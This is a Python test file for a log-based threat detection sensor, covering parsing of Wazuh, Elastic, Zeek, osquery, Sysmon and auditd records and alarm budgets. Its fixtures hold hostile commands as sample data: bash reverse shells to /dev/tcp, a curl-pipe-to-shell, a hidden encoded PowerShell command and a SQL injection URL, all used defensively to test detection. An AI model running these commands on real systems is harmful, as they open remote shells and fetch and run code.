"""Faults that people met with tools of this kind, each with the value that is right, by the shipped bundle and the command's parts."""

from __future__ import annotations

import base64
import gzip
import json
from collections import Counter
from pathlib import Path

import pytest

from edge_demist import EdgeDemist
from edge_demist.sensor.detect.budget import Budget
from edge_demist.sensor.reports import exit_code
from tests.support.sensor_fakes import balanced, watch_once, zeek_log

BUDGET = {"emit": "alarms", "explain": False, "fpr": 0.01}
HEADER = "ts uid host uri server_name query"
SYSMON_UTF16 = (
    "//57ACIAVQB0AGMAVABpAG0AZQAiADoAIgAyADAAMgA0AC0AMAA1AC0AMAAxACAAMAA4ADoAMAAwADoAMAAwAC4AMQAyADMAIgAsACIAQwBvAG0AbQBhAG4AZABMAGkAbgBl"
    "ACIAOgAiAHAAbwB3AGUAcgBzAGgAZQBsAGwAIAAtAG4AbwBwACAALQB3ACAAaABpAGQAZABlAG4AIAAtAGUAbgBjACAAUwBRAEIARgBBAEYAZwBBACIAfQANAAoA"
)


def lines(*records: dict) -> str:
    return "".join(json.dumps(record) + "\n" for record in records)


def watch(folder: Path, model: EdgeDemist, files: dict[str, str | bytes], **options: object) -> tuple[list[dict], dict]:
    """``watch --once`` over files, with the shipped bundle."""
    for name, text in files.items():
        (folder / name).write_bytes(text.encode() if isinstance(text, str) else text)
    model.close = lambda: None  # type: ignore[method-assign]
    events, summary = watch_once(folder, *(folder / name for name in files), model=model, **options)  # type: ignore[arg-type]
    assert balanced(summary)
    return events, summary


@pytest.fixture
def own_model() -> EdgeDemist:
    return EdgeDemist.load()


def shells(days: int, each: int, every_s: int) -> list[tuple[int, str]]:
    """So many distinct reverse shells a day."""
    start = 1_759_253_850
    return [(start + d * 86_400 + i * every_s, f"bash -i >& /dev/tcp/198.51.{d}.{i}/4000 0>&1") for d in range(days) for i in range(each)]


def test_c1_wazuh(tmp_path: Path, own_model: EdgeDemist) -> None:
    windows = {"eventdata": {"utcTime": "2025-08-13 08:42:27.161", "commandLine": "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgA"}}
    archive = lines(
        {"timestamp": "2025-08-13T08:42:28.100+0000", "data": {"win": windows}, "location": "EventChannel"},
        {
            "timestamp": "2025-08-13T08:43:28.100+0000",
            "data": {"audit": {"execve": {"a0": "bash", "a1": "-c", "a2": "curl http://h/x|sh"}}},
        },
        {"timestamp": "2025-08-13T08:44:28.100+0000", "data": {"event_type": "dns", "dns": {"rrname": "xjw8k2qpz7v1.info"}}},
    )
    events, summary = watch(tmp_path, own_model, {"archives.json": archive})
    assert summary["records_out"] == 3 and {e["task"] for e in events} >= {"cmdline", "dga"}
    assert [e["time"][11:16] for e in events[:2]] == ["08:42", "08:43"]


def test_c3_elastic_common_schema(tmp_path: Path, own_model: EdgeDemist) -> None:
    beats = lines(
        {"@timestamp": "2024-05-01T08:00:00.000Z", "event": {"dataset": "zeek.dns"}, "dns": {"question": {"name": "xjw8k2qpz7v1.info"}}},
        {"@timestamp": "2024-05-01T08:00:01.000Z", "url": {"full": "http://example.com/?q=1' or '1'='1", "original": "/?q=1' or '1'='1"}},
        {"@timestamp": "2024-05-01T08:00:02.000Z", "tls": {"client": {"server_name": "xjw8k2qpz7v1.info"}}},
    )
    events, summary = watch(tmp_path, own_model, {"filebeat.json": beats})
    assert summary["records_out"] == 3 and {"dga", "uri-attack", "url-phishing"} <= {e["task"] for e in events}


def test_c5_utf_16(tmp_path: Path, own_model: EdgeDemist) -> None:
    events, _ = watch(tmp_path, own_model, {"sysmon.json": base64.b64decode(SYSMON_UTF16)})
    assert [e["text"] for e in events] == ["powershell -nop -w hidden -enc SQBFAFgA"] and events[0]["time"] == "2024-05-01T08:00:00.123000Z"


def test_c7_variants_of_zeek_logs(tmp_path: Path, own_model: EdgeDemist) -> None:
    row = "1700000000.1 C1 evil.example /x xjw8k2qpz7v1.info xjw8k2qpz7v1.info"
    files: dict[str, str | bytes] = {f"{name}.log": zeek_log(HEADER, row, path=name) for name in ("open_http", "open_ssl", "dns_red")}
    events, summary = watch(tmp_path, own_model, files)
    assert summary["records_out"] == 3 and exit_code(summary, _NoControl(), once=True) == 0 and len(events) >= 11  # type: ignore[arg-type]


class _NoControl:
    interrupted = False


def test_a_log_that_nobody_understands_ends_with_1(tmp_path: Path, own_model: EdgeDemist) -> None:
    _, summary = watch(tmp_path, own_model, {"x.json": '{"temperature": 1}\n'})
    assert exit_code(summary, _NoControl(), once=True) == 1 and exit_code(summary, _NoControl()) == 0  # type: ignore[arg-type]


@pytest.mark.parametrize("form", ["number", "string"])
def test_d1_times_of_osquery_keep_the_budget_going(tmp_path: Path, own_model: EdgeDemist, form: str) -> None:
    records = [
        {"name": "p", "unixTime": at if form == "number" else str(at), "columns": {"cmdline": text}} for at, text in shells(10, 8, 3600)
    ]
    events, _ = watch(tmp_path, own_model, {"osqueryd.results.log": lines(*records)}, budget=Budget({"cmdline": 5}), **BUDGET)
    assert all(e["time"] for e in events) and 45 <= len(events) <= 52


def test_d3_times_of_other_forms(tmp_path: Path, own_model: EdgeDemist) -> None:
    log = lines(
        {"timestamp": "1700000000123", "CommandLine": "ls -l"},
        {"timestamp": 1700000000123.5, "CommandLine": "ls -la"},
        {"TimeCreated": "/Date(1714550400123)/", "CommandLine": "ls -lb"},
        {"timestamp": "May  1 08:00:00", "@timestamp": "2024-05-01T08:00:00Z", "CommandLine": "ls -lc"},
    )
    events, _ = watch(tmp_path, own_model, {"fdr.json": log})
    times = ["2023-11-14T22:13:20.123000Z", "2023-11-14T22:13:20.123500Z", "2024-05-01T08:00:00.123000Z", "2024-05-01T08:00:00.000000Z"]
    assert [e["time"] for e in events] == times


def test_g1_the_same_bytes_in_both_forms(tmp_path: Path, own_model: EdgeDemist) -> None:
    table = zeek_log("ts uid query", r"1700000002.1 C3 m\xfcnchen.de")
    record = {"ts": 1700000002.1, "uid": "C3", "query": r"m\xfcnchen.de", "qtype_name": "A"}
    events, _ = watch(tmp_path, own_model, {"dns.log": table, "dnsjson.log": lines(record)})
    assert len({(e["task"], e["text_base64"], e["label"], e["score"]) for e in events}) == len(events) / 2


def test_h1_an_archive_of_many_files(tmp_path: Path) -> None:
    for hour in range(300):
        (tmp_path / f"dns.{hour:04}.log.gz").write_bytes(
            gzip.compress(zeek_log("ts query", f"{1_700_000_000 + hour * 3600}.1 n.example").encode())
        )
    _, summary = watch_once(tmp_path, tmp_path, emit="alarms")
    assert len(summary["files"]) == summary["records"] == 300 and summary["errors"] == 0


def test_j1_the_budget_does_not_go_silent_in_an_incident(tmp_path: Path, own_model: EdgeDemist) -> None:
    records = [{"timestamp": at, "CommandLine": text} for at, text in shells(10, 50, 1600)]
    events, _ = watch(tmp_path, own_model, {"host.json": lines(*records)}, budget=Budget({"cmdline": 5}), **BUDGET)
    days = Counter((int(e["text"].split(".")[2])) for e in events)
    assert 48 <= len(events) <= 54 and len(days) == 10 and max(days.values()) <= 10


@pytest.mark.parametrize("every_h", [24.24, 30.0, 100.0])
def test_p1_a_gap_eats_no_alarm(tmp_path: Path, own_model: EdgeDemist, every_h: float) -> None:
    shell = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
    records = [{"timestamp": 1_759_253_850 + int(i * every_h * 3600), "CommandLine": shell} for i in range(15)]
    events, _ = watch(tmp_path, own_model, {"host.json": lines(*records)}, **BUDGET)
    assert len(events) == 15


def test_n1_suggested_rules(tmp_path: Path, own_model: EdgeDemist) -> None:
    log = zeek_log("ts uid query", "1700000000.1 C0 xjwqpvkzlwr.duckdns.org", "1700000001.1 C1 xjwqpvkzdhf.info", path="dns")
    events, _ = watch(tmp_path, own_model, {"dns.log": log}, emit="alarms", fpr=0.01)
    assert {e["allow_rule"]["value"] for e in events} <= {"xjwqpvkzlwr.duckdns.org", "xjwqpvkzdhf.info"} and events


def test_o1_one_command_one_event(tmp_path: Path, own_model: EdgeDemist) -> None:
    command = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 ; curl http://198.51.100.7/" + "x" * 90]
    cut = [*command[:2], command[2][:110]]
    log = lines({"ID": "1634231920.175:7973", "EXECVE": {"ARGV": command}, "PROCTITLE": {"ARGV": cut}})
    events, _ = watch(tmp_path, own_model, {"laurel.log": log}, **BUDGET)
    assert len(events) == 1 and events[0]["time"] == "2021-10-14T17:18:40.175000Z"


@pytest.mark.parametrize("task", ["hostname-category", "hostname-threat", "dga", "url-phishing"])
@pytest.mark.parametrize("name", ["kernel.org", "nas01.home.arpa", "münchen.de"])
def test_f1_one_host_one_verdict(model: EdgeDemist, task: str, name: str) -> None:
    spellings = [name, f"{name}:80", f"{name}:5000", f"https://{name}", name.upper(), name.encode("idna").decode(), f"{name}.", f" {name} "]
    answers = {(p.label, p.score, p.alarm_score) for p in model.classify(spellings, task=task)}
    assert len(answers) == 1
